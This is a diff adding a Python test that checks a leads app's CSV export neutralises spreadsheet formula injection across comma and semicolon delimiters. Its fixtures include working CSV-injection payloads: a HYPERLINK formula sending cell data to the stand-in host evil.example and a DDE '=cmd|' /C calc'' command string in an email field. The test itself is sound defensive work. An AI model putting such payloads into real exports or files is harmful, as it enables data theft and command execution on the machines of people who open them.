@@ -65,3 +65,43 @@ def test_another_workspace_sees_none_of_them(workspace, make_workspace):
     _seed(ws.workspace_id)
     other = make_workspace("Outra")
     assert leads.list_leads(Principal(other.user_id, other.workspace_id, Role.owner))["leads"] == []
+
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE_NAMES = [
+    'x;=HYPERLINK("http://evil.example/?"&A1;"clique")',  # pt-BR Excel splits on ';'
+    "a,=1+1",
+    "Ana;+55 11;-2+3;@SUM(1)",
+    'b;"=1+1"',  # a quoted cell after the split
+    "c; =1+1",  # blanks before the formula
+    "d\n=1+1",  # a new line that a foreign delimiter may turn into a new row
+    "e;\t=1",
+]
+
+
+def test_csv_export_defuses_formulas_in_every_field_excel_may_split_on_semicolon_or_comma(workspace):
+    ws, *_ = workspace
+    with tenant_session(ws.workspace_id) as s:
+        for i, name in enumerate(HOSTILE_NAMES):
+            s.add(
+                Contact(
+                    workspace_id=ws.workspace_id,
+                    phone=f"+55119111200{i:02d}",
+                    name=name,
+                    email=f"x{i}@example.com;=cmd|' /C calc'!A0",
+                    tags=["ok", "=2+5", "vip;-1"],
+                )
+            )
+        s.commit()
+    out = leads.export_csv(Principal(ws.user_id, ws.workspace_id, Role.owner))
+    for delimiter in (",", ";"):
+        cells = [cell for row in csv.reader(io.StringIO(out), delimiter=delimiter) for cell in row]
+        dangerous = [c for c in cells if c.lstrip(' "').startswith(TRIGGERS)]
+        dangerous += [c for c in cells if c.startswith(TRIGGERS)]
+        assert dangerous == [], (delimiter, dangerous)
+    # Nothing is lost: with the file's own delimiter each value reads back, quote marks added.
+    rows = list(csv.reader(io.StringIO(out)))
+    assert 'x;\'=HYPERLINK("http://evil.example/?"&A1;"clique")' in [r[0] for r in rows]
+    assert {r[6] for r in rows[1:]} == {"ok;'=2+5;vip;'-1"}
+    # "+5511..." would be a formula too (Excel shows 5,5E+12): the phone stays text.
+    assert all(r[1].startswith("'+5511") for r in rows[1:])
